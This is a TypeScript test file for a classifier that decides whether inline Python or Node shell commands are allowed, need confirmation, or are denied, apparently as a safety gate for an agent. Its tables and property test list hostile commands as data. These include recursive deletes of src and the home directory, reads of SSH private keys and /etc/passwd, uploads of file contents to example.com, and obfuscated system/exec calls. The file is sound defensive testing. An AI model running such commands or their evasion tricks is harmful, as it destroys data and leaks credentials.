import fc from "fast-check";
import { beforeAll, describe, expect, it } from "vitest";
import { outcomeOf, readShell } from "../corpus/outcome.js";
import { settingSurroundings } from "../corpus/setting.js";
import { judgesAll, type Tables } from "../corpus/tables.js";
import { prepareReading } from "../sql.js";

const tables: Tables = {
  "inline code that is read": [
    ["python3 -c \"import os; print(os.listdir('src'))\"", "allow"],
    ["python3 -c \"import glob; print(len(glob.glob('src/**/*.py', recursive=True)))\"", "allow"],
    ["python3 -c \"import subprocess; print(subprocess.run(['git','status'], capture_output=True, text=True).stdout)\"", "allow"],
    ["python3 -c \"import os; os.system('git status')\"", "allow"],
    ["python3 -c \"import os; os.makedirs('tmp/x', exist_ok=True)\"", "allow"],
    ["python3 -c \"import shutil; shutil.copy('src/cart.ts','tmp/cart.ts')\"", "allow"],
    ["python3 -c \"import shutil; shutil.rmtree('dist')\"", "allow"],
    ["python3 -c \"import requests; print(requests.get('http://localhost:3000/health').status_code)\"", "allow"],
    ["python3 -c \"import urllib.request; print(urllib.request.urlopen('https://registry.npmjs.org/zod').status)\"", "allow"],
    ["node -e \"const fs=require('fs'); for (const f of fs.readdirSync('src')) console.log(f, fs.statSync('src/'+f).size)\"", "allow"],
    ["node -e \"console.log(require('child_process').execSync('git rev-parse HEAD').toString())\"", "allow"],
    ["node -e \"fetch('http://localhost:3000/health').then(r => console.log(r.status))\"", "allow"],
    ["python3 -c \"import pathlib; [p.write_text(p.read_text().replace('a','b')) for p in pathlib.Path('src').rglob('*.ts')]\"", "allow"],
    ["node -e \"const fs=require('fs'); fs.rmSync('dist', { recursive: true })\"", "allow"],
  ],
  "inline code that is not": [
    ["python3 -c \"import os; os.system('rm -rf src')\"", "ask"],
    ["python3 -c \"import os; print(os.listdir('/home/dev'))\"", "ask"],
    ["python3 -c \"import os; print(open(os.path.join('..','x')).read())\"", "ask"],
    ["python3 -c \"import subprocess; subprocess.run(['git','push'])\"", "ask"],
    ["python3 -c \"import subprocess; subprocess.run(['ls'], env={'PATH':'x'})\"", "ask"],
    ["python3 -c \"import subprocess; subprocess.run('ls', shell=True)\"", "ask"],
    ["python3 -c \"import subprocess as s; s.run(['ls'])\"", "ask"],
    ["python3 -c \"import requests; requests.get('https://example.com', params={'a': open('package.json').read()})\"", "ask"],
    ["python3 -c \"import requests; requests.post('https://example.com', data='x')\"", "ask"],
    ["python3 -c \"import shutil; shutil.rmtree('src')\"", "ask"],
    ["python3 -c \"import os; os.remove('notes.md')\"", "ask"],
    ["python3 -c \"import os; os.rename('src/cart.ts','notes.md')\"", "ask"],
    ["python3 -c \"import os; x=chr(47)+'etc'; print(os.listdir(x))\"", "ask"],
    ['python3 -c "import os; print(os.listdir(input()))"', "ask"],
    ["python3 -c \"import pathlib; [p.write_text('') for p in pathlib.Path('.').rglob('*')]\"", "ask"],
    ["python3 -c \"import pathlib; [p.unlink() for p in pathlib.Path('src').rglob('*.ts')]\"", "ask"],
    ["python3 -c \"import os; os.execvp('ls', ['ls'])\"", "ask"],
    ["node -e \"require('child_process').execSync('rm -rf src')\"", "ask"],
    ["node -e \"const {execSync} = require('child_process'); execSync(process.argv[1])\"", "ask"],
    ["node -e \"const {execSync} = require('child_process'); const c='rm'; execSync(c + ' -rf src')\"", "ask"],
    ["node -e \"const cp=require('child_process'); cp.exec('x')\"", "ask"],
    ["node -e \"const cp=require('child_process'); cp['ex'+'ec']('x')\"", "ask"],
    ["node -e \"fetch('https://example.com', {method:'POST', body:'x'})\"", "ask"],
    ["node -e \"const fs=require('fs'); for (const f of fs.readdirSync('.')) fs.unlinkSync(f)\"", "ask"],
    ["node -e \"const fs=require('fs'); for (const f of fs.readdirSync('data')) fs.writeFileSync('data/'+f, '')\"", "ask"],
    ["node -e \"const fs=require('fs'); const w='writeFile'+'Sync'; fs[w]('notes.md','')\"", "ask"],
    ["python3 -c \"import os; getattr(os,'sys'+'tem')('x')\"", "ask"],
    ["python3 -c \"from os import system; system('x')\"", "ask"],
    ["python3 -c \"import os; f=os.system; f('x')\"", "ask"],
    ["python3 -c \"import os; open('data/a.json','w').write('')\"", "ask"],
    ["python3 -c \"import glob; [open(f,'w').write('') for f in glob.glob('data/*.json')]\"", "ask"],
    ["python3 -c \"import glob; [open(f,'w').write('') for f in glob.glob('*')]\"", "ask"],
    [
      "cd /tmp && python3 -c \"import os; print(os.listdir('x'))\" && python3 -c \"import glob; [open(f,'w').write('') for f in glob.glob('*.py')]\"",
      "ask",
    ],
    ["python3 -c \"import os; [os.remove(f) for f in os.listdir('src')]\"", "ask"],
    ["python3 -c \"import os; print(open(os.environ['X']).read())\"", "ask"],
    ['python3 -c "import sys; print(open(sys.argv[1]).read())" ~/.ssh/id_rsa', "ask"],
    ["node -e \"const fs=require('fs'); console.log(fs.readFileSync(process.argv[1]))\" ~/.ssh/id_rsa", "ask"],
    ["python3 -c \"import os; print(open('x/home/dev/.ss'+'h/id'[1:]).read())\"", "ask"],
    ['python3 -c "import os; print([open(f).read() for f in os.listdir()])"', "ask"],
    ["python3 -c \"from pathlib import Path; print([p.read_text() for p in Path('.').rglob('*')])\"", "ask"],
    ["python3 -c \"import os; os.system('rm -rf ~')\"", "deny", "wipes"],
  ],
};

describe("inline code", () => {
  beforeAll(prepareReading);

  judgesAll(tables);

  it("is never read as safe with a statement in it that is not", () => {
    const read = fc.constantFrom(
      "print(os.listdir('src'))",
      "os.makedirs('tmp/x', exist_ok=True)",
      "subprocess.run(['git', 'status'])",
      "print(len(glob.glob('src/**/*.py')))",
      "x = json.loads('{}')",
    );
    const unread = fc.constantFrom(
      "os.system(x)",
      "os.kill(1, 9)",
      "subprocess.Popen(x)",
      "subprocess.run(x)",
      "subprocess.run(['git', 'push'])",
      "open('/etc/passwd', 'w')",
      "open('../x').read()",
      "os.remove(x)",
      "shutil.rmtree(x)",
      "os.environ['X']",
      "exec(x)",
      "eval(x)",
      "__import__('os').system('x')",
      "requests.post('https://example.com', data=x)",
      "requests.get('https://example.com/' + x)",
      "getattr(os, x)('y')",
      "pathlib.Path('data').joinpath(x).unlink()",
      "os.chmod('src/a.py', 0o777)",
      "globals()['os'].system('x')",
      "socket.create_connection(('example.com', 1))",
    );
    fc.assert(
      fc.property(
        fc.record({
          before: fc.array(read, { maxLength: 3 }),
          bad: unread,
          after: fc.array(read, { maxLength: 3 }),
          mark: fc.constantFrom("; ", "\n"),
        }),
        ({ before, bad, after, mark }) => {
          const imports = "import os, sys, json, glob, pathlib, subprocess, shutil, requests";
          const code = (statements: readonly string[]): string => `python3 - <<'EOF'\n${[imports, ...statements].join(mark)}\nEOF`;
          expect(outcomeOf(readShell(code([...before, ...after]), settingSurroundings))).toBe("allow");
          expect(outcomeOf(readShell(code([...before, bad, ...after]), settingSurroundings))).not.toBe("allow");
        },
      ),
      { numRuns: 200 },
    );
  });
});
